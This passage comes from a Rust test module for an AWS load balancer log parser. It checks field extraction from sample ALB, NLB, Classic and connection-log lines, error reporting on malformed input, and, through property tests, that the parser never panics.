        let h2 = r#"h2 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:9000 0.000 0.002 0.000 200 200 5 257 "GET https://10.0.2.105:773/ HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337327-72bd00b0343d75b906739c42" "-" "-" 1 2018-07-02T22:22:48.364000Z "redirect" "https://example.com:80/" "-" "10.0.0.66:9000" "200" "-" "-""#;
        let v = parse(h2);
        assert_eq!(v["aws"]["elb"]["type"], "h2");
        assert_eq!(v["http"]["version"], "2.0");
        assert_eq!(v["url"]["port"], 773);
        assert_eq!(v["aws"]["elb"]["redirect_url"], "https://example.com:80/");

        let grpcs = r#"grpcs 2023-01-05T10:00:00.100000Z app/grpc-lb/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:50051 0.001 0.010 0.000 200 200 120 80 "POST https://grpc.example.com:443/helloworld.Greeter/SayHello HTTP/2.0" "grpc-go/1.50.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/grpc/73e2d6bc24d8a067 "Root=1-63b69f20-72bd00b0343d75b906739c42" "grpc.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 2 2023-01-05T10:00:00.089000Z "forward" "-" "-" "10.0.0.66:50051" "200" "-" "-""#;
        let v = parse(grpcs);
        assert_eq!(v["aws"]["elb"]["type"], "grpcs");
        assert_eq!(v["http"]["request"]["method"], "POST");
        assert_eq!(v["url"]["path"], "/helloworld.Greeter/SayHello");
        assert!(!has(&v, "url.extension"), "only the last path segment can have an extension");
        assert_eq!(v["tls"]["version"], "1.3");

        let ws = r#"ws 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:40914 10.0.1.192:8010 0.001 0.003 0.000 101 101 218 587 "GET http://10.0.0.30:80/ HTTP/1.1" "-" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.1.192:8010" "101" "-" "-""#;
        let v = parse(ws);
        assert_eq!(v["aws"]["elb"]["type"], "ws");
        assert_eq!(v["http"]["response"]["status_code"], 101);
        assert!(!has(&v, "user_agent"), "a `-` user agent yields no user_agent.*");

        let wss = r#"wss 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:44244 10.0.0.171:8010 0.000 0.001 0.000 101 101 218 786 "GET https://10.0.0.30:443/ HTTP/1.1" "-" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-""#;
        let v = parse(wss);
        assert_eq!(v["aws"]["elb"]["type"], "wss");
        assert_eq!(v["aws"]["elb"]["backend"]["port"], "8010");
        assert!(!has(&v, "aws.elb.target_port"), "an older line without the target lists is fine");
    }

    #[test]
    fn parses_lambda_target_success_and_failure() {
        let ok = r#"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "-" "-" "200" "-" "-""#;
        let v = parse(ok);
        assert!(!has(&v, "aws.elb.backend.ip"));
        assert!(!has(&v, "aws.elb.error"));
        assert_eq!(v["aws"]["elb"]["target_status_code"], json!(["200"]));
        assert_eq!(v["event"]["outcome"], "success");

        let failed = r#"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse" "-" "-" "-" "-""#;
        let v = parse(failed);
        assert_eq!(v["aws"]["elb"]["error"]["reason"], "LambdaInvalidResponse");
        assert_eq!(v["http"]["response"]["status_code"], 502);
        assert_eq!(v["event"]["outcome"], "failure");
        assert!(!has(&v, "aws.elb.backend"));
        assert!(!has(&v, "aws.elb.target_status_code"));
    }

    #[test]
    fn parses_failed_target_and_several_targets() {
        let line = r#"https 2024-02-01T08:00:01.000001Z app/shop/50dc6c495c0c9188 203.0.113.7:50000 10.0.0.9:8080 0.000 -1 -1 504 - 512 202 "POST https://shop.example.com:443/api/orders HTTP/1.1" "python-requests/2.31.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/shop/73e2d6bc24d8a067 "Root=1-65bb4f01-0123456789abcdef01234567" "shop.example.com" "session-reused" 5 2024-02-01T07:59:59.000000Z "waf,forward" "-" "-" "10.0.0.9:8080 10.0.0.10:8080" "- 200" "Ambiguous" "UndefinedContentLengthSemantics""#;
        let v = parse(line);
        assert_eq!(v["aws"]["elb"]["target_port"], json!(["10.0.0.9:8080", "10.0.0.10:8080"]));
        assert_eq!(v["aws"]["elb"]["target_status_code"], json!(["200"]));
        assert_eq!(v["aws"]["elb"]["chosen_cert"]["arn"], "session-reused");
        assert_eq!(v["aws"]["elb"]["classification"], "Ambiguous");
        assert_eq!(v["aws"]["elb"]["request_processing_time"]["sec"], 0.0);
        assert!(!has(&v, "aws.elb.backend_processing_time"));
        assert!(!has(&v, "aws.elb.backend.http"));
        assert_eq!(v["event"]["outcome"], "failure");
    }

    #[test]
    fn parses_newer_trailing_fields_and_ignores_unknown_ones() {
        let line = r#"https 2025-01-10T12:00:00.123456Z app/edge/50dc6c495c0c9188 198.51.100.20:61000 10.0.3.4:443 0.001 0.020 0.000 200 200 300 1200 "GET https://api.example.com:443/v1/items?id=7#top HTTP/1.1" "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/123.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/api/73e2d6bc24d8a067 "Root=1-67810c00-0123456789abcdef01234567" "api.example.com" "arn:aws:acm:eu-west-1:123456789012:certificate/abc" 10 2025-01-10T12:00:00.100000Z "forward" "-" "-" "10.0.3.4:443" "200" "-" "-" TID_0aa1bb2cc3dd4ee5 "internal.example.com" "/v2/items?id=7" "TransformSuccessful" future-field "another one""#;
        let v = parse(line);
        assert_subset(
            &v,
            &json!({"aws": {"elb": {
                "connection_trace_id": "TID_0aa1bb2cc3dd4ee5",
                "transformed_host": "internal.example.com",
                "transformed_uri": "/v2/items?id=7",
                "request_transform_status": "TransformSuccessful",
            }}, "url": {"query": "id=7", "fragment": "top", "path": "/v1/items"}}),
            "",
        );
    }

    #[test]
    fn parses_malformed_request_line_without_url_or_method() {
        let line = r#"http 2024-01-01T00:00:00.000000Z app/lb/50dc6c495c0c9188 198.51.100.1:1234 - -1 -1 -1 400 - 0 272 "- http://lb-123.us-east-1.elb.amazonaws.com:80- -" "-" - - - "-" "-" "-" - 2024-01-01T00:00:00.000000Z "-" "-" "-" "-" "-" "-" "-""#;
        let v = parse(line);
        assert!(!has(&v, "http.request.method"));
        assert!(!has(&v, "http.version"));
        assert!(!has(&v, "aws.elb.trace_id"));
        assert!(!has(&v, "aws.elb.matched_rule_priority"));
        assert_eq!(v["url"]["original"], "http://lb-123.us-east-1.elb.amazonaws.com:80-");
        assert_eq!(v["aws"]["elb"]["target_group"]["arn"], "-");
        assert_eq!(v["event"]["outcome"], "failure");

        let dashes = r#"http 2024-01-01T00:00:00.000000Z app/lb/50dc6c495c0c9188 198.51.100.1:1234 - -1 -1 -1 460 - 0 0 "- - - " "-" - - - "-" "-" "-" - 2024-01-01T00:00:00.000000Z "-" "-" "-""#;
        let v = parse(dashes);
        assert!(!has(&v, "url"));
        assert!(!has(&v, "http.request.method"));
        assert_eq!(v["http"]["response"]["status_code"], 460);
    }

    #[test]
    fn parses_ipv6_clients_and_targets() {
        let line = r#"https 2024-05-01T00:00:00.000000Z app/v6/50dc6c495c0c9188 2001:db8::1:51234 [2001:db8::10]:443 0.000 0.001 0.000 200 200 1 2 "GET https://[2001:db8::5]:443/ HTTP/1.1" "curl/8.5.0" - - - "-" "-" "-" 0 2024-05-01T00:00:00.000000Z "forward" "-" "-""#;
        let v = parse(line);
        assert_eq!(v["source"]["ip"], "2001:db8::1");
        assert_eq!(v["source"]["port"], 51234);
        assert_eq!(v["aws"]["elb"]["backend"]["ip"], "2001:db8::10");
        assert_eq!(v["aws"]["elb"]["backend"]["port"], "443");
        assert_eq!(v["url"]["domain"], "2001:db8::5");
        assert_eq!(v["url"]["port"], 443);
    }

    // --- Network Load Balancer ------------------------------------------

    #[test]
    fn parses_nlb_tls_line() {
        let line = "tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - -";
        let v = parse(line);
        assert_subset(
            &v,
            &json!({
                "@timestamp": "2018-12-20T02:59:40.000Z",
                "aws": {"elb": {
                    "type": "tls",
                    "name": "net/my-network-loadbalancer/c6e77e28c25b2234",
                    "listener": "g3d4b5e8bb8464cd",
                    "backend": {"ip": "172.100.100.185", "port": "443"},
                    "connection_time": {"ms": 5},
                    "tls_handshake_time": {"ms": 2},
                    "chosen_cert": {"arn": "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99"},
                    "ssl_cipher": "ECDHE-RSA-AES128-SHA",
                    "ssl_protocol": "tlsv12",
                    "protocol": "tcp",
                }},
                "source": {"ip": "72.21.218.154", "port": 51341, "bytes": 98},
                "destination": {"bytes": 246, "domain": "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com"},
                "tls": {"cipher": "ECDHE-RSA-AES128-SHA", "version": "1.2", "version_protocol": "tls"},
                "event": {"category": ["network"], "end": "2018-12-20T02:59:40.000Z"},
            }),
            "",
        );
        for absent in ["aws.elb.alpn_fe_protocol", "aws.elb.incoming_tls_alert", "aws.elb.tls_named_group", "http", "event.outcome"] {
            assert!(!has(&v, absent), "{absent} should be absent");
        }
    }

    #[test]
    fn parses_nlb_tls_line_with_alpn_and_creation_time() {
        let line = r#"tls 2.0 2020-04-01T08:51:42 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com h2 h2 "h2","http/1.1" 2020-04-01T08:51:20"#;
        let v = parse(line);
        assert_eq!(v["aws"]["elb"]["alpn_fe_protocol"], "h2");
        assert_eq!(v["aws"]["elb"]["alpn_be_protocol"], "h2");
        assert_eq!(v["aws"]["elb"]["alpn_client_preference_list"], json!(["h2", "http/1.1"]));
        assert_eq!(v["aws"]["elb"]["tls_connection_creation_time"], "2020-04-01T08:51:20.000Z");

        let escaped = r#"tls 2.0 2024-10-25T17:33:59 net/k8s-xxxx-xxx-xxxxxxxx/53192f3a0 46712e747de 192.168.131.39:2817 10.0.0.1:80 108 65 256 527 - arn:aws:acm:eu-central-1:XXXXXXXXXXX:certificate/25c6-4fad-9d52-7fca046bb588 - ECDHE-RSA-AES128-GCM-SHA256 tlsv12 - oauth.example.com http/1.1 http/1.1 \"http/1.1\" 2024-10-22T19:16:57"#;
        let v = parse(escaped);
        assert_eq!(v["aws"]["elb"]["alpn_client_preference_list"], json!(["http/1.1"]));
        assert_eq!(v["aws"]["elb"]["connection_time"]["ms"], 108);
    }

    #[test]
    fn parses_nlb_line_of_failed_handshake() {
        let line = "tls 2.0 2024-10-25T17:33:59 net/XXXXX-XXXX-XXX-us-east-2/c88927aafc9abafe 52878890095341b5 192.168.131.39:2817 10.0.0.1:80 0 - 0 0 - - - - - - - - - - 2024-10-25T17:33:59";
        let v = parse(line);
        assert_eq!(v["aws"]["elb"]["connection_time"]["ms"], 0);
        assert!(!has(&v, "aws.elb.tls_handshake_time"));
        assert!(!has(&v, "tls"));
        assert!(!has(&v, "aws.elb.alpn_client_preference_list"));
        assert_eq!(v["source"]["bytes"], 0);
    }

    // --- Classic Load Balancer ------------------------------------------

    #[test]
    fn parses_classic_http_and_https_lines() {
        let http = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -"#;
        let v = parse(http);
        assert_subset(
            &v,
            &json!({
                "@timestamp": "2015-05-13T23:39:43.945Z",
                "aws": {"elb": {"name": "my-loadbalancer", "protocol": "http", "backend": {"ip": "10.0.0.1", "port": "80"},
                    "request_processing_time": {"sec": 0.000073}, "backend_processing_time": {"sec": 0.001048}, "response_processing_time": {"sec": 0.000057}}},
                "http": {"response": {"status_code": 200, "body": {"bytes": 29}}, "request": {"method": "GET", "body": {"bytes": 0}}},
                "event": {"category": ["web"], "outcome": "success"},
            }),
            "",
        );
        assert!(!has(&v, "aws.elb.type"), "Classic lines have no type");

        let https = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.38.0" DHE-RSA-AES128-SHA TLSv1.2"#;
        let v = parse(https);
        assert_eq!(v["tls"]["cipher"], "DHE-RSA-AES128-SHA");
        assert_eq!(v["tls"]["version"], "1.2");
    }

    #[test]
    fn parses_classic_tcp_and_ssl_lines() {
        let tcp = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -"#;
        let v = parse(tcp);
        assert_subset(
            &v,
            &json!({
                "aws": {"elb": {"protocol": "tcp", "name": "my-loadbalancer"}},
                "source": {"bytes": 82, "port": 2817},
                "destination": {"bytes": 305},
                "event": {"category": ["network"]},
            }),
            "",
        );
        assert!(!has(&v, "http"));
        assert!(!has(&v, "url"));
        assert!(!has(&v, "event.outcome"));

        let ssl = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001065 0.000015 0.000023 - - 57 502 "- - - " "-" ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2"#;
        let v = parse(ssl);
        assert_eq!(v["tls"]["cipher"], "ECDHE-ECDSA-AES128-GCM-SHA256");
        assert_eq!(v["aws"]["elb"]["ssl_protocol"], "TLSv1.2");
    }

    #[test]
    fn parses_classic_line_with_unreachable_backend() {
        let line = r#"2019-03-01T10:00:00.000000Z legacy-lb 203.0.113.9:40000 - -1 -1 -1 503 0 0 0 "GET http://legacy.example.com:80/index.html HTTP/1.1" "Mozilla/5.0" - -"#;
        let v = parse(line);
        assert!(!has(&v, "aws.elb.backend.ip"));
        assert_eq!(v["aws"]["elb"]["backend"]["http"]["response"]["status_code"], 0);
        assert_eq!(v["url"]["extension"], "html");
        assert_eq!(v["event"]["outcome"], "failure");
    }

    // --- ALB connection logs --------------------------------------------

    #[test]
    fn parses_alb_connection_log_lines() {
        let ok = r#"2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success"#;
        let v = parse(ok);
        assert_subset(
            &v,
            &json!({
                "@timestamp": "2024-10-04T17:05:15.514Z",
                "client": {"ip": "192.168.131.39", "port": 36280},
                "aws": {"elb": {
                    "listener": "443",
                    "ssl_protocol": "TLSv1.2",
                    "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
                    "tls_handshake_latency": 4.036,
                    "leaf_client_cert_subject": "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US",
                    "leaf_client_cert_not_before": "2023-09-21T22:43:21.000Z",
                    "leaf_client_cert_not_after": "2026-06-17T22:43:21.000Z",
                    "leaf_client_cert_serial_number": "FEF257372D5C14D4",
                    "tls_verify_status": "Success",
                }},
                "tls": {"version": "1.2", "version_protocol": "tls"},
                "event": {"outcome": "success", "category": ["network"]},
            }),
            "",
        );
        assert!(!has(&v, "source"));

        let failed = r#"2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 - "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Failed:ClientCertUntrusted"#;
        let v = parse(failed);
        assert_eq!(v["aws"]["elb"]["tls_verify_status"], "Failed");
        assert_eq!(v["aws"]["elb"]["tls_error_code"], "ClientCertUntrusted");
        assert_eq!(v["event"]["outcome"], "failure");
        assert!(!has(&v, "aws.elb.tls_handshake_latency"));

        let plain = r#"2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - "-" - - - TID_16132ed0b4112148"#;
        let v = parse(plain);
        assert_eq!(v["aws"]["elb"]["connection_trace_id"], "TID_16132ed0b4112148");
        assert_eq!(v["aws"]["elb"]["listener"], "80");
        for absent in ["tls", "aws.elb.leaf_client_cert_subject", "aws.elb.tls_verify_status", "event.outcome"] {
            assert!(!has(&v, absent), "{absent} should be absent");
        }
    }

    // --- Errors and robustness ------------------------------------------

    #[test]
    fn blank_line_yields_no_event() {
        let mut n = 0;
        ElbParser.parse("  \r", &mut |_| n += 1).unwrap();
        assert_eq!(n, 0);
    }

    #[test]
    fn malformed_line_is_an_error_not_a_panic() {
        for line in [
            "garbage",
            "Hello world",
            "http",
            "http not-a-time app/x 1.2.3.4:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:5",
            "http 2018-07-02T22:23:00Z app/x not-an-ip:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:99999 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - zero 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 OK 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1 \"-\" - -",
            "tls 2.0 2018-12-20T02:59:40 net/x/y l 1.2.3.4:5",
            "tls 2.0 2018-12-20T02:59:40 net/x/y l 1.2.3.4:5 1.2.3.4:6 x 2 3 4",
            "2015-05-13T23:39:43.945958Z my-loadbalancer",
            "2015-05-13T23:39:43.945958Z 999.1.1.1 36280 443",
            "2015-05-13T23:39:43.945958Z 1.1.1.1 362800 443",
            "2015-99-13T23:39:43.945958Z my-lb 1.2.3.4:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "\"quoted",
            "é",
        ] {
            let err = parse_err(line);
            assert_eq!(err.dataset, DATASET);
            assert!(!err.reason.is_empty());
        }
    }

    #[test]
    fn error_names_the_problem() {
        let err = parse_err("http 2018-07-02T22:23:00Z app/x 1.2.3.4:5");
        assert_eq!(err.reason, "line ends before field `target:port`");
        let err = parse_err("http yesterday app/x");
        assert_eq!(err.reason, "invalid time `yesterday`");
    }

    #[test]
    fn tokenizer_handles_quotes_spaces_and_escapes() {
        let t: Vec<&str> = Tokens::new(r#"a "b c" "" "d \" e" "f" g"h "-" "#).collect();
        assert_eq!(t, vec!["a", "b c", "", r#"d \" e"#, "f", "g\"h", "-"]);
        let t: Vec<&str> = Tokens::new(r#""unterminated x"#).collect();
        assert_eq!(t, vec!["unterminated x"]);
    }

    #[test]
    fn decimal_parsing_is_exact() {
        for s in ["0.000", "0.001", "0.086", "1.5", "12345.678901", "0.000073", "4.036", "-1", "123456789012345678.5"] {
            assert_eq!(parse_decimal(s), s.parse::<f64>().ok(), "{s}");
        }
        for s in ["", "-", ".", "1.2.3", "1e5", "abc", "--1"] {
            assert_eq!(parse_decimal(s), None, "{s}");
        }
    }

    #[test]
    fn emitted_fields_are_defined_in_the_field_file() {
        let yml = include_str!("../../fields/aws.elb_logs.yml");
        let ecs = include_str!("../../fields/ecs.yml");
        let defined = |name: &str| {
            let needle = format!("name: \"{name}\"");
            let bare = format!("name: {name}\n");
            yml.contains(&needle) || ecs.contains(&needle) || yml.contains(&bare) || ecs.contains(&bare)
        };
        let lines = include_str!("../../tests/fixtures/aws.elb_logs/elb.log");
        let mut n = 0;
        for line in lines.lines() {
            ElbParser
                .parse(line, &mut |e| {
                    n += 1;
                    for (k, _) in e.fields() {
                        assert!(defined(k), "field {k} is not defined in fields/");
                    }
                })
                .unwrap_or_else(|err| panic!("{line}: {err}"));
        }
        assert!(n > 10);
    }

    proptest::proptest! {
        #[test]
        fn arbitrary_input_never_panics_and_serializes_to_json(s in "\\PC{0,300}") {
            let mut out = Vec::new();
            let _ = ElbParser.parse(&s, &mut |mut e| {
                out.clear();
                e.write_json(&mut out);
                serde_json::from_slice::<J>(&out).expect("valid JSON");
            });
        }

        #[test]
        fn mutated_alb_lines_never_panic(cut in 0usize..600, byte in proptest::sample::select(vec![' ', '"', '-', ':', '\\', 'x', '9'])) {
            let mut line: String = ALB_HTTP.to_string();
            let mut at = cut.min(line.len());
            while !line.is_char_boundary(at) { at -= 1; }
            line.insert(at, byte);
            let _ = ElbParser.parse(&line, &mut |mut e| {
                let mut out = Vec::new();
                e.write_json(&mut out);
                serde_json::from_slice::<J>(&out).expect("valid JSON");
            });
            let _ = ElbParser.parse(&line[..at], &mut |_| {});
        }
    }
}
